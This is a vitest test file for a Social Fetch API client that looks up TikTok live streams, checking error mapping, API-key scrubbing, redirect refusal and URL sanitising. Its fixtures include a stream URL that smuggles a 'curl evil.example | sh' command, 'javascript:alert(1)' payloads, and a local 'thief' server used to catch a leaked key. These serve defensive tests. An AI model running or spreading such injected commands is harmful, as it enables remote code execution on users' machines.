import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { createSocialFetchClient } from '@/lib/socialfetch/client';
import { apiErrorText } from '@/lib/platform/error-text';
import { startFakeSocialFetch } from '../fake-socialfetch';

const sample = (name: string) => readFileSync(`tests/fixtures/socialfetch/${name}.json`, 'utf8');
const NOW = Date.parse('2026-11-24T20:00:00Z');

function clientAnswering(status: number, body: string, headers: Record<string, string> = {}) {
  const calls: { url: string; init?: RequestInit }[] = [];
  const client = createSocialFetchClient({
    getKey: () => 'sfk_secret_key_123',
    now: () => NOW,
    fetch: async (input, init) => {
      calls.push({ url: String(input), init });
      return new Response(body, { status, headers: { 'content-type': 'application/json', ...headers } });
    },
  });
  return { client, calls };
}

describe('errors as codes, said in the user\'s language by the UI', () => {
  it('tells the kind, then what the server said (key scrubbed); entries 0.1.0 wrote keep their text', async () => {
    const result = await clientAnswering(400, JSON.stringify({ error: { code: 'bad_request', message: 'Handle sfk_leaked is odd' } })).client.lookupLive('x');
    if (result.ok) throw new Error('expected an error');
    expect(result.error).toEqual({ kind: 'bad_request', status: 400, detail: 'Handle sfk_… is odd' });
    expect(apiErrorText(result.error)).toBe('Social Fetch rejected the request. Handle sfk_… is odd');
    expect(apiErrorText({ kind: 'timeout' })).toBe('Social Fetch did not answer in time.');
    expect(apiErrorText({ kind: 'lookup_failed', message: 'Old English text.' })).toBe('Old English text.');
  });

  it('says when a 401 or 402 is about a key replaced while the call was out', async () => {
    let key = 'sfk_old_revoked_key';
    const client = createSocialFetchClient({
      getKey: () => key,
      now: () => NOW,
      fetch: async () => {
        key = 'sfk_new_working_key';
        return new Response(JSON.stringify({ error: { code: 'unauthorized', message: 'revoked' } }), { status: 401 });
      },
    });
    expect(await client.lookupLive('x')).toMatchObject({ ok: false, error: { kind: 'unauthorized' }, staleKey: true });
    // The same key still stored: the verdict stands.
    expect(await client.lookupLive('x')).not.toHaveProperty('staleKey');
  });

  it.each([
    ['URL-encoded', encodeURIComponent('sfk_secret_key_123').replace('_', '%5F')],
    ['upper-cased', 'SFK_SECRET_KEY_123'],
    ['without its prefix', 'secret_key_123'],
    ['in base64', btoa('sfk_secret_key_123')],
    ['in base64 inside a header echo', btoa('x-api-key: sfk_secret_key_123; ok')],
    ['in base64url inside a header echo', btoa('key=sfk_secret_key_123').replace(/\+/g, '-').replace(/\//g, '_')],
  ])('never keeps the key the server echoed %s', async (_how, echoed) => {
    const message = `Key ${echoed} refused`;
    const result = await clientAnswering(401, JSON.stringify({ error: { code: 'unauthorized', message, requestId: echoed } })).client.lookupLive('x');
    if (result.ok) throw new Error('expected an error');
    const kept = JSON.stringify(result.error);
    for (const piece of ['secret_key_123', 'SECRET_KEY_123', 'c2VjcmV0X2tleV8xMjM', 'ZWNyZXRfa2V5XzEy', 'NlY3JldF9rZXlfMTIz']) expect(kept).not.toContain(piece);
    expect(result.error.detail).toMatch(/^Key .* refused$/);
  });
});

describe('lookupLive', () => {
  it('sends the key header and URL-encodes the handle', async () => {
    const { client, calls } = clientAnswering(200, sample('offline'));
    await client.lookupLive('a b/c');
    expect(calls[0]?.url).toBe('https://api.socialfetch.dev/v1/tiktok/profiles/a%20b%2Fc/live');
    expect(new Headers(calls[0]?.init?.headers).get('x-api-key')).toBe('sfk_secret_key_123');
  });

  it('reduces a live answer to what users need, with request id and credits', async () => {
    const { client } = clientAnswering(200, sample('live'));
    const result = await client.lookupLive('sunny.cooks');
    expect(result).toMatchObject({ ok: true, requestId: 'req_01JDEXAMPLELIVE', creditsCharged: 1 });
    if (!result.ok || result.data.status !== 'live') throw new Error('expected live');
    expect(result.data.profile).toMatchObject({ handle: 'sunny.cooks', displayName: 'Sunny Cooks 🍳', verified: true });
    expect(result.data.live.viewerCount).toBe(4210);
    expect(result.data.live.startedAt).toBe(Date.parse('2026-11-24T18:02:11Z'));
    expect(result.data.live.variants.map((v) => [v.quality, v.source, !!v.hls, !!v.flv, !!v.cmaf])).toEqual([
      ['origin', 'primary', true, true, false],
      ['hd', 'primary', true, true, true],
      ['sd', 'primary', false, true, false],
      ['origin', 'hevc', true, true, false],
    ]);
  });

  it('answers offline and not found', async () => {
    expect((await clientAnswering(200, sample('offline')).client.lookupLive('quiet_maker')).ok).toBe(true);
    const nf = await clientAnswering(200, sample('not-found')).client.lookupLive('nobody');
    expect(nf).toMatchObject({ ok: true, data: { status: 'not_found' }, creditsCharged: 1 });
  });

  it('keeps only https URLs and drops variants left with none', async () => {
    const live = JSON.parse(sample('live'));
    live.data.profile.avatarUrl = 'javascript:alert(1)';
    live.data.live.variants = [
      { codec: 'h264', source: 'primary', quality: 'hd', hlsUrl: 'javascript:alert(1)', flvUrl: 'http://insecure.example/x.flv', cmafUrl: null },
      { codec: 'h264', source: 'primary', quality: 'sd', hlsUrl: 'https://ok.example/sd.m3u8', flvUrl: 'data:text/html,x' },
    ];
    const result = await clientAnswering(200, JSON.stringify(live)).client.lookupLive('sunny.cooks');
    if (!result.ok || result.data.status !== 'live') throw new Error('expected live');
    expect(result.data.profile.avatarUrl).toBeNull();
    expect(result.data.live.variants).toEqual([
      expect.objectContaining({ quality: 'sd', hls: 'https://ok.example/sd.m3u8', flv: null, cmaf: null }),
    ]);
  });

  it('keeps only normalised stream URLs: one with an embedded newline and command is never offered for copying', async () => {
    const live = JSON.parse(sample('live'));
    live.data.live.variants = [
      { codec: 'h264', source: 'primary', quality: 'hd', hlsUrl: 'https://cdn.example/a.m3u8\ncurl evil.example | sh', flvUrl: 'HTTPS://CDN.example/b.flv?x=1' },
    ];
    const result = await clientAnswering(200, JSON.stringify(live)).client.lookupLive('sunny.cooks');
    if (!result.ok || result.data.status !== 'live') throw new Error('expected live');
    expect(result.data.live.variants).toEqual([expect.objectContaining({ hls: null, flv: 'https://cdn.example/b.flv?x=1' })]);
  });

  it('tolerates unknown fields and missing or mistyped assumed fields', async () => {
    const live = JSON.parse(sample('live'));
    live.data.newVendorField = { anything: true };
    delete live.data.live.viewerCount;
    live.data.live.startedAt = 'yesterday-ish';
    live.data.live.variants = 'not an array';
    const result = await clientAnswering(200, JSON.stringify(live)).client.lookupLive('sunny.cooks');
    if (!result.ok || result.data.status !== 'live') throw new Error('expected live');
    expect(result.data.live).toMatchObject({ viewerCount: null, startedAt: null, variants: [] });
  });

  it('clips oversized text instead of failing', async () => {
    const live = JSON.parse(sample('live'));
    live.data.live.title = 'x'.repeat(100_000);
    const result = await clientAnswering(200, JSON.stringify(live)).client.lookupLive('sunny.cooks');
    if (!result.ok || result.data.status !== 'live') throw new Error('expected live');
    expect(result.data.live.title?.length).toBe(500);
  });
});

describe('error mapping', () => {
  const envelope = (code: string, message = 'Something, with key sfk_secret_key_123 inside') =>
    JSON.stringify({ error: { code, message, requestId: 'req_err_1' } });

  it.each([
    [401, 'unauthorized', 'unauthorized'],
    [402, 'insufficient_credits', 'insufficient_credits'],
    [400, 'bad_request', 'bad_request'],
    [502, 'lookup_failed', 'lookup_failed'],
    [503, 'temporarily_unavailable', 'temporarily_unavailable'],
    [500, 'internal_error', 'internal_error'],
    [429, 'rate_limited', 'rate_limited'],
  ])('HTTP %i with code %s → %s, keeping the request id, never the key', async (status, code, kind) => {
    const result = await clientAnswering(status, envelope(code)).client.lookupLive('x');
    expect(result).toMatchObject({ ok: false, error: { kind, status, requestId: 'req_err_1' } });
    expect(JSON.stringify(result)).not.toContain('sfk_secret_key_123');
  });

  it.each([
    [401, 'unauthorized'],
    [402, 'insufficient_credits'],
    [404, 'bad_request'],
    [429, 'rate_limited'],
    [500, 'internal_error'],
    // A gateway's own page: the service is out of reach (back off), not one profile failing.
    [502, 'temporarily_unavailable'],
    [503, 'temporarily_unavailable'],
    [504, 'temporarily_unavailable'],
  ])('HTTP %i with an HTML proxy page or empty body → %s from the status', async (status, kind) => {
    const html = await clientAnswering(status, '<html><body>Bad gateway</body></html>', { 'content-type': 'text/html' })
      .client.lookupLive('x');
    expect(html).toMatchObject({ ok: false, error: { kind, status } });
    const empty = await clientAnswering(status, '').client.lookupLive('x');
    expect(empty).toMatchObject({ ok: false, error: { kind, status } });
  });

  it('refuses to follow a redirect: a typed error, the key sent nowhere else, nothing retried', async () => {
    const { client, calls } = clientAnswering(302, '', { location: 'https://elsewhere.example/steal' });
    const result = await client.lookupLive('x');
    expect(result).toMatchObject({ ok: false, error: { kind: 'redirected' } });
    if (!result.ok) expect(apiErrorText(result.error)).toMatch(/did not follow/);
    expect(calls).toHaveLength(1);
    expect(calls[0]?.init?.redirect).toBe('manual');
  });

  it('against a real server, a 302 to another host reaches that host never', async () => {
    const elsewhere: string[] = [];
    const thief = http.createServer((req, res) => (elsewhere.push(String(req.headers['x-api-key'])), res.end('{}')));
    await new Promise<void>((r) => thief.listen(0, '127.0.0.1', r));
    const fake = await startFakeSocialFetch();
    fake.fault({ kind: 'redirect', location: `http://127.0.0.1:${(thief.address() as AddressInfo).port}/steal` }, { handle: 'x' });
    const client = createSocialFetchClient({ getKey: () => 'sfk_test_valid', origin: fake.origin });
    const result = await client.lookupLive('x');
    expect(result).toMatchObject({ ok: false, error: { kind: 'redirected' } });
    expect(elsewhere).toEqual([]);
    await fake.close();
    thief.close();
  });

  it('an unknown code falls back to the status', async () => {
    const result = await clientAnswering(503, envelope('brand_new_code')).client.lookupLive('x');
    expect(result).toMatchObject({ ok: false, error: { kind: 'temporarily_unavailable' } });
  });

  it('reads Retry-After in seconds and as an HTTP date', async () => {
    const seconds = await clientAnswering(429, envelope('rate_limited'), { 'retry-after': '42' }).client.lookupLive('x');
    expect(seconds).toMatchObject({ ok: false, error: { retryAfterMs: 42_000 } });
    const date = new Date(NOW + 90_000).toUTCString();
    const dated = await clientAnswering(503, envelope('temporarily_unavailable'), { 'retry-after': date }).client.lookupLive('x');
    expect(dated).toMatchObject({ ok: false, error: { kind: 'temporarily_unavailable', retryAfterMs: 90_000 } });
  });

  it('ignores a Retry-After that says nothing usable, and clamps a past date to zero', async () => {
    const garbage = await clientAnswering(429, envelope('rate_limited'), { 'retry-after': 'soon' }).client.lookupLive('x');
    expect(garbage).toMatchObject({ ok: false, error: { kind: 'rate_limited' } });
    expect(garbage.ok || 'retryAfterMs' in garbage.error).toBe(false);
    const missing = await clientAnswering(429, envelope('rate_limited')).client.lookupLive('x');
    expect(missing.ok || 'retryAfterMs' in missing.error).toBe(false);
    const past = await clientAnswering(429, envelope('rate_limited'), { 'retry-after': new Date(NOW - 5000).toUTCString() }).client.lookupLive('x');
    expect(past).toMatchObject({ ok: false, error: { kind: 'rate_limited', retryAfterMs: 0 } });
  });

  it('malformed JSON and wrong shapes on a 200 become malformed_response', async () => {
    for (const body of ['{"data": {', '[]', '{"data":{"lookupStatus":"found"}}', 'null', '']) {
      expect(await clientAnswering(200, body).client.lookupLive('x')).toMatchObject({
        ok: false,
        error: { kind: 'malformed_response' },
      });
    }
  });

  it('a network failure is network, an unanswered call is timeout', async () => {
    const down = createSocialFetchClient({
      getKey: () => 'sfk_k_12345',
      fetch: async () => {
        throw new TypeError('Failed to fetch');
      },
    });
    expect(await down.lookupLive('x')).toMatchObject({ ok: false, error: { kind: 'network' } });

    const hanging = createSocialFetchClient({
      getKey: () => 'sfk_k_12345',
      timeoutMs: 20,
      fetch: (_input, init) =>
        new Promise((_resolve, reject) => init?.signal?.addEventListener('abort', () => reject(init.signal?.reason))),
    });
    expect(await hanging.lookupLive('x')).toMatchObject({ ok: false, error: { kind: 'timeout' } });
  });

  it('makes no call without a key', async () => {
    let called = false;
    const client = createSocialFetchClient({
      getKey: () => null,
      fetch: async () => {
        called = true;
        return new Response('');
      },
    });
    expect(await client.lookupLive('x')).toMatchObject({ ok: false, error: { kind: 'unauthorized' } });
    expect(called).toBe(false);
  });
});

describe('free calls', () => {
  it('whoami and balance parse the samples', async () => {
    expect(await clientAnswering(200, sample('whoami')).client.whoami()).toMatchObject({
      ok: true,
      data: { name: 'Alex Example', email: 'alex@example.com' },
      creditsCharged: 0,
    });
    expect(await clientAnswering(200, sample('balance')).client.balance()).toMatchObject({ ok: true, data: 9873 });
  });
});

describe('malformed answers keep the server meta', () => {
  it('keeps request id and credits charged of an unreadable 200', async () => {
    const body = JSON.stringify({ data: { lookupStatus: 'maybe' }, meta: { requestId: 'req_x', creditsCharged: 1, version: 'v1' } });
    expect(await clientAnswering(200, body).client.lookupLive('x')).toMatchObject({
      ok: false,
      error: { kind: 'malformed_response', requestId: 'req_x', creditsCharged: 1 },
    });
  });
});
